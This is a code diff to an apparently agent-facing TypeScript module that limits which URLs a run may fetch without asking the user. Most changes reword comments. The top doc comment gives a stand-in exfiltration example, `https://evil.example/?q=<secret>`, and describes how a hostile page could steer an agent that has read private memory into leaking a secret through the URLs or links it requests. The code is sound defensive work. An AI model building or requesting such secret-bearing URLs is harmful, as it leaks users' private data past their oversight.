@@ -2,27 +2,29 @@ import { isHostAllowed } from '../network-policy.ts';
 import { checkUrl, requestTextOf } from './web-url.ts';
 
 /**
- * Which URLs a run may ask for without a person. What an agent asks for leaves the house in the URL itself: one that has read private memory and then
- * a hostile page could be talked into `https://evil.example/?q=<secret>`, or into spelling a secret by the links that it follows. So a URL counts only
- * when somebody wrote it who does not know what the agent has read:
+ * The URLs that a run may request without asking the user. A URL can carry data out: a hostile page could make an agent
+ * that has read private memory request `https://evil.example/?q=<secret>`, or spell a secret by the choice of links. So
+ * a URL is known only if its author does not know what the agent has read:
  *
- * - the person, in the task or in an answer: to the letter, with or without its scheme;
- * - a search engine, as a result of this run's `web_search`: to the letter. The query goes to the search engine and to nobody else;
- * - a page of a host that the person named by a whole URL: the page's links to the same host. Who runs that host gets to know what is followed, and the
- *   person chose him;
- * - or when its host is one of the run's allowed hosts, whatever the URL says: that is what allowing a host means.
+ * - the user wrote exactly this URL in the task or in an answer, with or without the scheme;
+ * - exactly this URL is a result of `web_search` in this run. The query goes only to the search engine;
+ * - it is a link on a page of a host that the user named with a whole URL, and leads to the same host. The owner of
+ *   that host learns which links are followed, and the user chose this host;
+ * - its host is one of the run's allowed hosts. Then every URL of the host may be requested.
  *
- * Links of other pages are not followed: their author could read the choice.
+ * Links on other pages are not known, because their author could learn from the choice of links.
  */
 export interface UrlSources {
-  /** What the person wrote in this run: the task and his answers. */
+  /** The texts that the user wrote in this run: the task and answers. */
   words: readonly string[];
-  /** What calls answered that were successful. */
+  /** The outputs of successful web_search calls. */
   searches: readonly string[];
+  /** The outputs of successful web_fetch calls. */
   pages: readonly string[];
   allowedHosts: readonly string[];
 }
 
+/** Tells whether a run may request the URL without asking the user. */
 export function isKnown(url: URL, { words, searches, pages, allowedHosts }: UrlSources): boolean {
   if (isHostAllowed(url.hostname, allowedHosts)) return true;
   const wanted = requestTextOf(url);
@@ -33,9 +35,9 @@ export function isKnown(url: URL, { words, searches, pages, allowedHosts }: UrlS
   return hosts.has(url.host) && pages.flatMap(linksOf).some((known) => requestTextOf(known) === wanted);
 }
 
-/** A URL in a sentence ends before what closes the sentence or the brackets around it. */
+/** Finds whole URLs in a text. `toUrls` removes the punctuation at their end. */
 const URL_IN_TEXT = /\bhttps?:\/\/[^\s<>"'`|\\^{}]{1,2000}/giu;
-/** A name without its scheme, as people write it: `example.com/pricing`. It says where to look, and does not make its host's links known. */
+/** Finds URLs without a scheme, such as `example.com/pricing`. They are known, but the links on their pages are not. */
 const NAME_IN_TEXT = /(?<![\w@./-])(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}(?:\/[^\s<>"'`|\\^{}]{0,2000})?/giu;
 
 function urlsIn(text: string): URL[] {
@@ -50,14 +52,16 @@ function namesIn(text: string): URL[] {
 }
 
 function toUrls(found: string): URL[] {
-  // Both readings count: a bracket or a full stop at the end may be part of it.
+  // Both forms count, because a bracket or a full stop at the end may be part of the URL.
   return [found, found.replace(/[\])}.,;:!?*_]+$/u, '')].flatMap((text) => {
     const checked = checkUrl(text, undefined, () => true);
     return checked.status === 'allowed' ? [checked.url] : [];
   });
 }
 
-/** The tools render a result and a link on a line of its own, and what strangers wrote cannot make one: it has neither `<` nor line ends. */
+/**
+ * Finds results in the output of web_search. Text of strangers cannot imitate one: it has no `<` and no line breaks.
+ */
 function resultsOf(output: string): URL[] {
   return [...output.matchAll(/^<result url="([^"\n]+)"/gm)].flatMap(([, url = '']) => toUrls(url).slice(0, 1));
 }
